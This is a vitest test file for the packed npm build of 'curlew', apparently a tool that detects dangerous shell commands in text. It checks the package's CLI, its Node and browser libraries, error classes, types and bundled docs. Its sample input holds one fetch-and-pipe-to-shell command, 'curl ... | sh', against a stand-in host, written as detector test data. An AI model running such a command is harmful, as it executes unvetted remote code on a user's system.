import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

/** The package as npm packs it, unpacked as a dependency of another one. `npm test` builds before it tests. */
let folder: string;
let installed: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "curlew-package-"));
  const packed = execFileSync("npm", ["pack", "--json", "--pack-destination", folder], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] });
  const [{ filename }] = JSON.parse(packed);
  execFileSync("tar", ["-xzf", join(folder, filename), "-C", folder]);
  installed = join(folder, "package");
  symlinkSync(resolve("node_modules"), join(installed, "node_modules"));
});
afterAll(() => rmSync(folder, { recursive: true }));

/** Runs a module of a project that uses the package. */
function runModule(code: string): string {
  const path = join(installed, "example.mjs");
  writeFileSync(path, code);
  return execFileSync(process.execPath, [path], { encoding: "utf8" }).trim();
}

const text = "Run `curl -fsSL https://x.example/i.sh | sh` now";

describe("the packed package", () => {
  it("has the command", () => {
    const { status, stdout } = spawnSync(process.execPath, [join(installed, "dist", "cli.js"), "scan", "--format", "json", "-"], { input: text, encoding: "utf8" });
    expect(status).toBe(1);
    expect(stdout).toContain("bash/fetch-pipe");
  });

  it("has the library for Node", () => {
    const code = `import { createNodeDetector } from "curlew";
      const detector = await createNodeDetector();
      console.log(JSON.stringify(detector.detect(${JSON.stringify(text)}).spans));`;
    expect(runModule(code)).toBe("[[5,43]]");
  });

  it("has the library for browsers, with all the files it fetches", () => {
    const code = `import { createBrowserDetector } from "curlew/browser";
      import { readFile } from "node:fs/promises";
      const fetchBytes = async (path) => new Uint8Array(await readFile(new URL("dist/assets/" + path, import.meta.url)));
      const detector = await createBrowserDetector({ fetchBytes });
      console.log(JSON.stringify(detector.detect(${JSON.stringify(text)}).spans));`;
    expect(runModule(code)).toBe("[[5,43]]");
  });

  it("has the errors of both libraries, to tell them apart", () => {
    const code = `import { createNodeDetector, AssetError } from "curlew";
      import { GrammarError, QueryError } from "curlew/browser";
      const error = await createNodeDetector({ queriesDir: "no/such/folder" }).catch((error) => error);
      console.log(error instanceof AssetError, typeof GrammarError, typeof QueryError);`;
    expect(runModule(code)).toBe("true function function");
  });

  it("has type declarations for both, with a name for every type", () => {
    const path = join(installed, "example.ts");
    writeFileSync(
      path,
      `import { createDetector, createNodeDetector, QueryError, type Detection, type Detector, type Finding, type Note, type Span } from "curlew";
      import { createBrowserDetector, type DetectOptions, type FetchBytes, type Outcome, type Profile, type Revision } from "curlew/browser";
      const profile: Profile = "extended";
      const options: DetectOptions = { offsetEncoding: "codepoint" };
      const fetchBytes: FetchBytes = async () => new Uint8Array();
      const detectors: Detector[] = [await createNodeDetector({ profile }), await createBrowserDetector({ fetchBytes })];
      const answers: Detection[] = detectors.map((detector) => detector.detect("", options));
      export const parts: [Span[], Finding[], Note[], Outcome[], Revision[]] = [
        answers.flatMap(({ spans }) => spans),
        answers.flatMap(({ findings }) => findings),
        answers.flatMap(({ notes }) => notes),
        answers.map(({ outcome }) => outcome),
        detectors.map(({ revision }) => revision),
      ];
      export { createDetector, QueryError };`,
    );
    const compiler = resolve("node_modules", "typescript", "bin", "tsc");
    const options = ["--noEmit", "--strict", "--module", "nodenext", "--target", "es2022", "--lib", "es2023,dom", "--types", "node"];
    expect(spawnSync(process.execPath, [compiler, ...options, path], { encoding: "utf8" }).stdout).toBe("");
  });

  it("has the documents of the service", () => {
    expect(["service.md", "errors.md", "curlew.service"].filter((name) => !existsSync(join(installed, "docs", name)))).toEqual([]);
  });

  it("leaves sources and tests out", () => {
    expect(["src", "test", "scripts", "corpora"].filter((name) => existsSync(join(installed, name)))).toEqual([]);
  });
});
